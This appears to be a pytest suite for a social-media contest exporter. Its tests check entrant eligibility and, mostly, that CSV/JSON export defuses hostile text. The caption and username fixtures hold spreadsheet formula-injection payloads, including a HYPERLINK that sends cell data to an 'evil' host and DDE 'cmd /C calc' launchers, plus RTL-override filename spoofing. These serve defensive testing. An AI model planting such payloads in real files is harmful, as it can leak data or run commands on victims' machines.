"""Entrant lists an organiser can trust and open: the unknown-author choice, self-mentions,
hostile captions and usernames in every format, and how many authors are known."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Coroutine
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from pymongo.asynchronous.database import AsyncDatabase

from listener.contests.campaigns import scopes
from listener.contests.commands import ContestError, export
from listener.contests.export import FORMULA_TRIGGERS, csv_text
from listener.contests.settle import settle
from listener.enrich.enricher import Scorer
from listener.metrics import Metrics
from listener.models import Media, Source
from listener.settings import Settings
from listener.store.mongo import Document
from listener.store.store import Store
from tests.contests.campaign import (
    HASHTAG,
    MENTION,
    T0,
    TAGS,
    exported,
    ingest,
    media,
    parse,
    rows_of,
    settings_for,
)

OWASP = ("=", "+", "-", "@", "\t", "\r")


Add = Callable[..., Coroutine[Any, Any, None]]


@pytest.fixture
def settings(mongo_uri: str, database: AsyncDatabase[Document]) -> Settings:
    """Campaign ``summer``: #summerdrop, one mention, one entry per user, defaults otherwise."""
    return settings_for(mongo_uri, database)


@pytest.fixture
def add(database: AsyncDatabase[Document], metrics: Metrics) -> Add:
    """Store sightings through the ingest path, judged by the given settings' campaigns."""

    async def store(
        judged_by: Settings, sightings: list[tuple[Media, Source]], scorer: Scorer | None = None
    ) -> None:
        await ingest(judged_by, database, metrics, sightings, scorer)

    return store


async def test_unknown_authors_are_entrants_by_default(settings: Settings, add: Add) -> None:
    """Hashtag media, whose author Meta never names, are listed; each counts on its own."""
    await add(
        settings,
        [
            (media("1", minutes=1, caption="#summerdrop @ana"), HASHTAG),
            (media("2", minutes=2, caption="#summerdrop @bo"), HASHTAG),
            (media("3", minutes=3, caption="#summerdrop @cy", username="zoe"), TAGS),
        ],
    )
    rows = await rows_of(settings)
    assert [(r["media_id"], r["username"]) for r in rows] == [("1", ""), ("2", ""), ("3", "zoe")]


async def test_unknown_authors_ineligible_lists_only_known_authors(
    mongo_uri: str, database: AsyncDatabase[Document], add: Add
) -> None:
    """ "ineligible": only tagged or mentioning entries count, the rest say author_unknown."""
    strict = settings_for(mongo_uri, database, unknown_authors="ineligible")
    await add(
        strict,
        [
            (media("1", minutes=1, caption="#summerdrop @ana"), HASHTAG),
            (media("3", minutes=3, caption="#summerdrop @cy", username="zoe"), TAGS),
        ],
    )
    rows = {r["media_id"]: r for r in await rows_of(strict, include_all=True)}
    assert (rows["1"]["eligible"], rows["1"]["reasons"]) == ("false", "author_unknown")
    assert (rows["3"]["entry_number"], rows["3"]["eligible"]) == ("1", "true")


async def test_an_author_learned_later_makes_a_strict_entry_eligible(
    mongo_uri: str, database: AsyncDatabase[Document], add: Add
) -> None:
    """The same media seen again through /tags gets its author and becomes an entrant."""
    strict = settings_for(mongo_uri, database, unknown_authors="ineligible")
    first = media("1", minutes=1, caption="#summerdrop @ana")
    await add(strict, [(first, HASHTAG)])
    assert await rows_of(strict) == []
    await add(strict, [(media("1", minutes=1, caption=first.caption, username="zoe"), TAGS)])
    assert [r["username"] for r in await rows_of(strict)] == ["zoe"]


async def test_tagging_yourself_is_not_tagging_a_friend(settings: Settings, add: Add) -> None:
    """The demo's post by fan.171 mentioning @brand and @fan.171 is no entry; a friend's is."""
    caption = "Loving my new look from @brand ❤️ #summerdrop with @fan.171"
    await add(
        settings,
        [
            (media("1", minutes=1, caption=caption, username="fan.171"), MENTION),
            (media("2", minutes=2, caption=caption, username="fan.172"), MENTION),
        ],
    )
    rows = {r["media_id"]: r for r in await rows_of(settings, include_all=True)}
    assert rows["1"]["reasons"] == "too_few_mentions"
    assert rows["2"]["eligible"] == "true"


async def test_export_counts_the_entrants_with_a_known_author(
    settings: Settings, database: AsyncDatabase[Document], add: Add
) -> None:
    """The summary and the settling pass both count known authors among the entrants only."""
    await add(
        settings,
        [
            (media("1", minutes=1, caption="#summerdrop @ana"), HASHTAG),
            (media("2", minutes=2, caption="#summerdrop @bo"), HASHTAG),
            (media("3", minutes=3, caption="#summerdrop @cy", username="zoe"), TAGS),
            (media("4", minutes=4, caption="no tag @cy", username="yan"), TAGS),
        ],
    )
    settled = await settle(Store(database).media, scopes(settings), now=T0)
    [result] = settled.campaigns
    assert (result.eligible, result.eligible_known) == (3, 1)
    assert result.author_known_ratio == pytest.approx(1 / 3)
    summary = await export(settings, "summer", io.BytesIO())
    assert (summary.entrants, summary.known_authors) == (3, 1)
    assert summary.known_ratio == pytest.approx(1 / 3)


HOSTILE_CAPTIONS = {
    "formula": '=HYPERLINK("http://evil/?"&A1,"win") #summerdrop @ana',
    "plus": "+1+cmd|' /C calc'!A0 #summerdrop @ana",
    "minus": "-2+3+cmd|' /C calc'!A0 #summerdrop @ana",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 #summerdrop @ana",
    "tab": "\t=1+2 #summerdrop @ana",
    "cr": "\r=1+2 #summerdrop @ana",
    "spaces": "   =1+2 #summerdrop @ana",
    "quote": "'=1+2 #summerdrop @ana",
}


async def test_formulas_in_captions_are_never_evaluated(settings: Settings, add: Add) -> None:
    """Each OWASP trigger at a caption's start is defused with ', and reads back exactly."""
    await add(
        settings,
        [
            (media(str(n), minutes=n, caption=text, username=f"u{n}"), TAGS)
            for n, text in enumerate(HOSTILE_CAPTIONS.values(), start=1)
        ],
    )
    rows = await rows_of(settings)
    assert [r["caption"][0] for r in rows] == ["'"] * len(HOSTILE_CAPTIONS)
    assert [csv_text(r["caption"]) for r in rows] == list(HOSTILE_CAPTIONS.values())


async def test_formulas_in_usernames_are_never_evaluated(settings: Settings, add: Add) -> None:
    """Usernames are text from strangers too: every trigger is defused in that column."""
    # Distinct handles: "\tcmd" and "\rcmd" are one author to the rules (surrounding space
    # is no part of a handle), and one entry per user would keep only one of them.
    names = [f"{trigger}cmd|' /C calc'!A{n}" for n, trigger in enumerate(OWASP)]
    await add(
        settings,
        [
            (media(str(n), minutes=n, caption="#summerdrop @ana", username=name), TAGS)
            for n, name in enumerate(names, start=1)
        ],
    )
    rows = await rows_of(settings)
    assert all(r["username"].startswith("'") for r in rows)
    assert [csv_text(r["username"]) for r in rows] == names


async def test_no_csv_cell_of_any_column_starts_with_a_trigger(
    settings: Settings, add: Add
) -> None:
    """Every column, --all's included, and negative scores: no cell begins with a trigger."""

    @dataclass(frozen=True)
    class Score:
        label: str = "negative"
        score: float = -0.4215
        model: str = "fixed"

    class Negative:
        def score(self, text: str) -> Score:
            return Score()

    hostile = Media(
        id="1",
        timestamp=T0 + timedelta(minutes=1),
        caption="-1 #summerdrop @ana",
        permalink='=HYPERLINK("http://evil/")',
        username="@bo",
    )
    await add(
        settings,
        [(hostile, TAGS), (media("2", minutes=2, caption="+no tag", username="=x"), TAGS)],
        scorer=Negative(),
    )
    rows = await rows_of(settings, include_all=True)
    assert len(rows) == 2
    cells = [cell for r in rows for cell in r.values()]
    assert all(not cell or cell[0] not in FORMULA_TRIGGERS for cell in cells), cells
    assert rows[0]["sentiment_score"] == "'-0.4215"
    assert csv_text(rows[0]["permalink"]) == hostile.permalink


async def test_newlines_commas_and_quotes_stay_inside_their_cell(
    settings: Settings, add: Add
) -> None:
    """Line breaks of every kind, commas, semicolons and quotes never start a row or a cell."""
    captions = [
        'a, b; "c" ""d""\n=next line #summerdrop @ana',
        "carriage\rreturn\r\n and crlf #summerdrop @ana",
        "semi;colon;=1+2 #summerdrop @ana",
    ]
    await add(
        settings,
        [
            (media(str(n), minutes=n, caption=c, username=f"u{n}"), TAGS)
            for n, c in enumerate(captions, start=1)
        ],
    )
    data = await exported(settings)
    rows = parse(data, "csv")
    assert [r["caption"] for r in rows] == captions
    assert all(len(r) == 9 for r in rows)
    assert data.count(b'"\n"') == len(captions)  # one record separator per row


async def test_right_to_left_marks_and_emoji_are_kept_byte_for_byte(
    settings: Settings, add: Add
) -> None:
    """RTL overrides and emoji pass through unchanged in CSV, JSON and NDJSON."""
    caption = "\u202egnp.exe\u202c \u200fשלום\u200f 👩🏽‍🚀❤️ #summerdrop @ana"
    name = "\u202eevil"
    await add(settings, [(media("1", minutes=1, caption=caption, username=name), TAGS)])
    for fmt in ("csv", "json", "ndjson"):
        data = await exported(settings, fmt=fmt)
        (row,) = parse(data, fmt)
        assert (row["caption"], row["username"]) == (caption, name), fmt
        assert caption.encode() in data


async def test_nul_in_a_caption_neither_breaks_nor_leaks(settings: Settings, add: Add) -> None:
    """A NUL is kept: the CSV still reads back whole, JSON escapes it as \\u0000."""
    caption = "\0=1+2 nul\0inside #summerdrop @ana"
    await add(settings, [(media("1", minutes=1, caption=caption, username="zoe"), TAGS)])
    (row,) = parse(await exported(settings), "csv")
    assert row["caption"] == "'" + caption
    data = await exported(settings, fmt="json")
    assert b"\\u0000" in data
    assert json.loads(data)[0]["caption"] == caption


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
async def test_json_formats_keep_every_text_exactly(settings: Settings, add: Add, fmt: str) -> None:
    """No escape in JSON or NDJSON: captions and usernames are exactly what was stored."""
    captions = [*HOSTILE_CAPTIONS.values(), "line\u2028sep\u2029para\x85nel #summerdrop @ana"]
    await add(
        settings,
        [
            (media(str(n), minutes=n, caption=c, username=f"={n}"), TAGS)
            for n, c in enumerate(captions, start=1)
        ],
    )
    data = await exported(settings, fmt=fmt)
    rows = parse(data, fmt)
    assert [r["caption"] for r in rows] == captions
    assert [r["username"] for r in rows] == [f"={n}" for n in range(1, len(captions) + 1)]
    if fmt == "ndjson":
        assert len(data.decode().splitlines()) == len(captions)  # whatever counts as a line


async def test_a_media_id_no_cell_can_hold_safely_stops_the_csv_export(
    settings: Settings, add: Add
) -> None:
    """An id a spreadsheet would evaluate cannot be escaped (tickets hash ids): refuse it."""
    await add(
        settings, [(media("-17", minutes=1, caption="#summerdrop @ana", username="zoe"), TAGS)]
    )
    with pytest.raises(ContestError, match="media id '-17' starts with a character"):
        await exported(settings)
    assert [r["media_id"] for r in await rows_of(settings, fmt="json")] == ["-17"]


async def test_a_campaign_whose_every_entry_is_ineligible_exports_an_empty_list(
    settings: Settings, add: Add
) -> None:
    """No entrant: the CSV is its header alone, JSON an empty array, NDJSON nothing."""
    await add(settings, [(media("1", minutes=1, caption="no tag at all", username="zoe"), TAGS)])
    assert (await exported(settings)).count(b"\n") == 1
    assert await exported(settings, fmt="json") == b"[\n]\n"
    assert await exported(settings, fmt="ndjson") == b""
    assert len(await rows_of(settings, include_all=True)) == 1


async def test_the_entrants_are_read_from_the_campaigns_window_only(
    settings: Settings, add: Add, database: AsyncDatabase[Document]
) -> None:
    """The entrant list is read from the window's stretch of the ``timestamp_id`` index: 40
    media published before the window, even carrying a (stale) eligible verdict, are not
    listed."""
    await add(
        settings,
        [(media(str(n), minutes=n, caption="#summerdrop @ana"), HASHTAG) for n in range(1, 4)],
    )
    before = T0 - timedelta(days=30)  # the window opens on 2026-06-01
    await database.media.insert_many(
        [
            {
                "_id": f"old{n}",
                "timestamp": before + timedelta(minutes=n),
                "contests": {"summer": {"eligible": True, "reasons": []}},
            }
            for n in range(40)
        ]
    )
    rows = await rows_of(settings)
    assert [r["media_id"] for r in rows] == ["1", "2", "3"]
